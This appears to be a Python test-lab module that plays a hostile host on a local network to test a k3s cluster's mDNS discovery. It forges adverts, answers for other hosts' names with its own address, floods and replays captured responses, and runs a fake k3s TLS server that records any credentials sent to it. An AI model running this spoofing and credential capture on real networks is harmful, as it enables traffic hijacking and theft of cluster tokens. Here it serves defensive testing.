"""The lab's hostile host (issue 12): a liar on the LAN, run inside one lab node.

    python3 -m tests.lab.adversary --addr A --stype S --out DIR [--forge] [--flood N]
                                    [--capture SUBSTRING] [--replay] [--duration S]

It speaks mDNS with scapy (Debian's python3-scapy), from its own socket on UDP 5353 beside the
node's avahi-daemon, and:
- forges adverts of the cluster's type: a serving server, a bootstrapper and a candidate with
  the lowest keys, with a `mac=` it made up, `ca=` the hash of its own CA;
- answers for others' names: A records for every `<host>.local` it is asked about, with its
  own address;
- floods FLOOD instances of the type (PTR, SRV and a TXT that is no advert) in answer to every
  QU question about it (a live round's), more than a round keeps;
- captures real nodes' responses that hold SUBSTRING (the latest 64) until a line `freeze` on
  stdin, and replays them verbatim at a line `replay` (adverts from a node's earlier start);
- serves a fake k3s on 6443 with its own CA, and records every request that carries
  credentials in DIR/tokens.jsonl (a token received is a token leaked).

Every question it answers and every advert it sends is counted in DIR/adversary.json. It stops
after --duration seconds (bounded), and only ever sends to the lab's link.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import contextlib
import json
import socket
import ssl
import sys
import time
from pathlib import Path
from typing import Any

from scapy.layers.dns import DNS, DNSRR, DNSRRSRV

from agent import tokens
from tests.lab.k3s import certs

MDNS_GROUP, MDNS_PORT = "224.0.0.251", 5353
DOT = "\x7f"  # stands for a dot inside an instance label while scapy encodes (see _encoded)
LOW_KEYS = {"server": "0" * 16, "bootstrap": "0" * 15 + "1", "candidate": "0" * 15 + "2"}


class Liar:
    """The forger, flooder, impersonator and replayer, on one mDNS socket."""

    def __init__(self, addr: str, stype: str, ca_hash: str, *, flood: int, forge: bool,
                 capture: str) -> None:  # fmt: skip
        self.addr, self.stype, self.ca_hash = addr, stype, ca_hash
        self.ptr = f"{stype}.local."
        self.flood, self.forge, self.capture = flood, forge, capture.encode()
        self.captured: list[bytes] = []
        self.frozen = False  # `freeze` on stdin: keep what was captured so far
        self.counts = {"questions": 0, "forged": 0, "flooded": 0, "impersonated": 0,
                       "captured": 0, "replayed": 0}  # fmt: skip
        self.sock = self._socket()
        # Built once: scapy takes seconds for a flood, and an answer must come at once.
        self.forged_packets = _packets(self.forged()) if forge else []
        self.flood_packets = _packets(self.flooded())

    def _socket(self) -> socket.socket:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        sock.bind(("", MDNS_PORT))
        membership = socket.inet_aton(MDNS_GROUP) + socket.inet_aton(self.addr)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(self.addr))
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
        sock.setblocking(False)
        return sock

    def _instance(self, host: str, role: str) -> str:
        return f"k3s-{self.stype[5:].split('.')[0]}@{host}{DOT}local ({role})"

    def forged(self) -> list[DNSRR]:
        """The adverts it makes up: lowest keys, its own CA, a MAC it cannot compute."""
        cluster, env = self.stype[5:].split(".")[0].split("-", 1)
        records = []
        for role, key in LOW_KEYS.items():
            host = f"evil-{role}"
            name = f"{self._instance(host, role)}.{self.ptr}"
            phase = {"server": "serving", "bootstrap": "bootstrap", "candidate": "discover"}[role]
            txt = [b"k3s=1", f"cluster={cluster}".encode(), f"env={env}".encode(),
                   f"role={role}".encode(), f"phase={phase}".encode(), b"leader=",
                   f"host={host}.local".encode(), f"ip4={self.addr}".encode(), b"ip6=", b"v=1",
                   f"key={key}".encode(), f"ca={self.ca_hash}".encode(), f"vote={key}".encode(),
                   b"admit=", b"members=3", b"servers=3", b"boot=00000001deadbeef",
                   b"mac=" + b"0123456789abcdef" * 2]  # fmt: skip
            records += [
                DNSRR(rrname=self.ptr, type="PTR", rclass=1, ttl=4500, rdata=name),
                DNSRRSRV(rrname=name, rclass=0x8001, ttl=120, port=6443, target=f"{host}.local."),
                DNSRR(rrname=name, type="TXT", rclass=0x8001, ttl=4500, rdata=txt),
                DNSRR(rrname=f"{host}.local.", type="A", rclass=0x8001, ttl=120, rdata=self.addr),
            ]
        return records

    def flooded(self) -> list[DNSRR]:
        records = []
        for i in range(self.flood):
            name = f"flood-{i}.{self.ptr}"
            records += [
                DNSRR(rrname=self.ptr, type="PTR", rclass=1, ttl=120, rdata=name),
                DNSRRSRV(rrname=name, rclass=0x8001, ttl=120, port=6443, target="flood.local."),
                DNSRR(rrname=name, type="TXT", rclass=0x8001, ttl=120, rdata=[b"k3s=0"]),
            ]
        return records

    def send(self, packets: list[bytes], to: tuple[str, int] = (MDNS_GROUP, MDNS_PORT)) -> None:
        for packet in packets:
            with contextlib.suppress(OSError):
                self.sock.sendto(packet, to)

    def announce(self) -> None:
        if self.forge:
            self.send(self.forged_packets)
            self.counts["forged"] += len(LOW_KEYS)

    def answer(self, data: bytes, source: tuple[str, int]) -> None:
        """Answer a question: forged adverts and the flood for the type, its own address for
        any host name; keep a response that holds the capture string."""
        if source[0] == self.addr:
            return
        try:
            message = DNS(data)
        except Exception:  # scapy's parser raises anything on junk
            return
        if message.qr == 1:
            if self.capture and self.capture in data and not self.frozen:
                self.captured = [*self.captured[-63:], data]  # the latest 64
                self.counts["captured"] += 1
            return
        answers: list[bytes] = []
        flood: list[bytes] = []
        for question in _questions(message):
            self.counts["questions"] += 1
            name = question.qname.decode(errors="replace").lower()
            if name == self.ptr and question.qtype == 12:
                answers += self.forged_packets
                self.counts["forged"] += len(LOW_KEYS) if self.forge else 0
                if question.qclass & 0x8000:  # QU: a live round's socket, not an Avahi cache
                    flood = self.flood_packets
                    self.counts["flooded"] += self.flood
            elif name.endswith(".local.") and question.qtype == 1 and "._" not in name:
                answers += _packets([DNSRR(rrname=name, type="A", rclass=0x8001, ttl=120,
                                           rdata=self.addr)])  # fmt: skip
                self.counts["impersonated"] += 1
        if answers:
            self.send(answers)
        if answers or flood:
            self.send(answers + flood, source)

    def replay(self) -> None:
        for data in self.captured:
            with contextlib.suppress(OSError):
                self.sock.sendto(data, (MDNS_GROUP, MDNS_PORT))
            self.counts["replayed"] += 1


def _packets(records: list[DNSRR]) -> list[bytes]:
    """Responses holding RECORDS, 24 to a packet (each under the link's MTU)."""
    packets = []
    for start in range(0, len(records), 24):
        chunk = records[start : start + 24]
        packet = DNS(id=0, qr=1, aa=1, an=_chain(chunk), ancount=len(chunk))
        packets.append(_encoded(bytes(packet)))
    return packets


def _chain(records: list[DNSRR]) -> DNSRR:
    chained = records[0]
    for record in records[1:]:
        chained = chained / record
    return chained


def _questions(message: DNS) -> list[Any]:
    found: list[Any] = []
    question = message.qd
    while question is not None and hasattr(question, "qname") and len(found) < 64:
        found.append(question)
        question = question.payload if question.payload.name != "NoPayload" else None
    return found


def _encoded(packet: bytes) -> bytes:
    """The packet with the stand-in byte back to the dot it stands for: scapy splits names at
    every dot, and an instance label holds dots ("k3s-sugar-dev@node1.local (server)")."""
    return packet.replace(DOT.encode(), b".")


# --- the fake k3s --------------------------------------------------------------------------------


class FakeK3s:
    """TLS on 6443 with its own CA: /cacerts to anyone; any request with credentials recorded."""

    def __init__(self, out: Path) -> None:
        self.ca, self.ca_key = certs.new_ca(name="evil-ca")
        self.cert, self.key = certs.issue(self.ca, self.ca_key, "k3s", sans=["127.0.0.1"])
        self.out = out
        self.requests = 0

    def context(self, work: Path) -> ssl.SSLContext:
        (work / "evil.crt").write_bytes(self.cert + self.ca)
        (work / "evil.key").write_bytes(self.key)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(work / "evil.crt", work / "evil.key")
        return context

    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
        except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, TimeoutError, OSError):
            writer.close()
            return
        self.requests += 1
        lines = head.decode(errors="replace").split("\r\n")
        path = lines[0].split(" ")[1] if len(lines[0].split(" ")) > 1 else ""
        fields = (line.partition(":") for line in lines[1:])
        headers = {k.strip().lower(): v.strip() for k, _, v in fields}
        credential = headers.get("authorization", "")
        if credential:
            scheme, _, value = credential.partition(" ")
            if scheme.lower() == "basic":
                with contextlib.suppress(ValueError):
                    value = base64.b64decode(value).decode(errors="replace")
            with self.out.open("a") as stream:
                stream.write(json.dumps({"path": path, "credential": value}) + "\n")
        body = self.ca if path.startswith("/cacerts") else b"{}"
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
                     % len(body) + body)  # fmt: skip
        with contextlib.suppress(OSError):
            await writer.drain()
        writer.close()


async def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="adversary")
    parser.add_argument("--addr", required=True)
    parser.add_argument("--stype", required=True)
    parser.add_argument("--out", type=Path, required=True)
    parser.add_argument("--forge", action="store_true")
    parser.add_argument("--flood", type=int, default=0)
    parser.add_argument("--capture", default="")
    parser.add_argument("--duration", type=float, default=300.0)
    args = parser.parse_args(argv)
    args.out.mkdir(parents=True, exist_ok=True)
    fake = FakeK3s(args.out / "tokens.jsonl")
    server = await asyncio.start_server(fake.handle, "0.0.0.0", 6443,
                                        ssl=fake.context(args.out))  # fmt: skip
    liar = Liar(args.addr, args.stype, tokens.ca_hash(fake.ca), flood=min(args.flood, 4096),
                forge=args.forge, capture=args.capture)  # fmt: skip
    loop = asyncio.get_running_loop()
    replay = asyncio.Event()

    def command() -> None:
        raw = sys.stdin.readline()
        line = raw.strip()
        if not raw:  # stdin closed: no more commands
            loop.remove_reader(sys.stdin)
        elif line == "freeze":
            liar.frozen = True
        elif line == "replay":
            replay.set()

    loop.add_reader(liar.sock, lambda: _receive(liar))
    loop.add_reader(sys.stdin, command)
    deadline = time.monotonic() + min(args.duration, 900.0)
    print(json.dumps({"event": "ready", "ca": tokens.ca_hash(fake.ca)}), flush=True)
    while time.monotonic() < deadline:
        liar.announce()
        if replay.is_set():
            replay.clear()
            liar.replay()
        (args.out / "adversary.json").write_text(json.dumps(
            {**liar.counts, "requests": fake.requests}))  # fmt: skip
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(replay.wait(), 1.0)
    server.close()
    return 0


def _receive(liar: Liar) -> None:
    for _ in range(64):
        try:
            data, source = liar.sock.recvfrom(9000)
        except BlockingIOError:
            return
        liar.answer(data, source)


if __name__ == "__main__":
    sys.exit(asyncio.run(main(sys.argv[1:])))
